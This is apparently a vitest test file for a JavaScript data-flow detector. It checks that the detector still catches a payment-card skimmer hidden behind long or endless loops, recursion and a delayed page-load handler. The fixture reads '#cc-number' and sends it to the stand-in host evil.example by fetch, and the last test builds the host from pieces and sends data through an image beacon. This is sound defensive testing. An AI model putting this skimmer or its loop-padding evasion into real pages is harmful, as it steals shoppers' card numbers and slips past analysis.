// Guards that what costs many steps does not hide what stands after it.
import { describe, expect, it } from 'vitest'
import { flowsIn, look } from './look.ts'

const thief = `document.querySelector('#cc-number').addEventListener('change', (e) => fetch('https://evil.example/?d=' + e.target.value));`
const long = 'for (let k = 0; k < 9e3; k++) for (let i = 0; i < 9e3; i++);'

describe('what stands after is found, and the run says that there may be more', () => {
  it.each([
    ['a long loop', long + thief],
    ['a long loop of the same function', `(function () { ${long} ${thief} })()`],
    ['many long loops', `(function () { ${long.repeat(12)} ${thief} })()`],
    ['an endless loop within an endless loop', `for (;;) { for (;;); ${thief} }`],
    ['a loop with a label', `a: while (true) { b: for (;;); }${thief}`],
    ['a text that doubles itself', `var a = 'x'; while (true) a += a;${thief}`],
    ['a long list', `(function () { [...Array(90000).keys()].forEach((a) => { for (let i = 0; i < 90; i++); }); ${thief} })()`],
    ['a function that calls itself without end', `function f(n) { return n ? f(n - 1) + f(n - 1) : 0 } f(140); ${thief}`],
    ['a long loop of a handler', `document.addEventListener('DOMContentLoaded', () => { ${long} ${thief} })`],
  ])('%s', (_, text) => {
    const run = look(text)
    expect(flowsIn(run)).toContain('card > fetch evil.example')
    expect(run.ended).toBe(false)
  })
})

it('a loop of many rounds that ends is run to its end', () => {
  const text = `let n = ''; for (let i = 0; i < 20000; i++) if (i % 4000 === 0) n += 'l'; new Image().src = 'https://evi' + n.slice(0, 1) + '.example/' + n`
  const run = look(text)
  expect(run.ended).toBe(true)
  expect(flowsIn(run)).toEqual([' > image evil.example'])
})
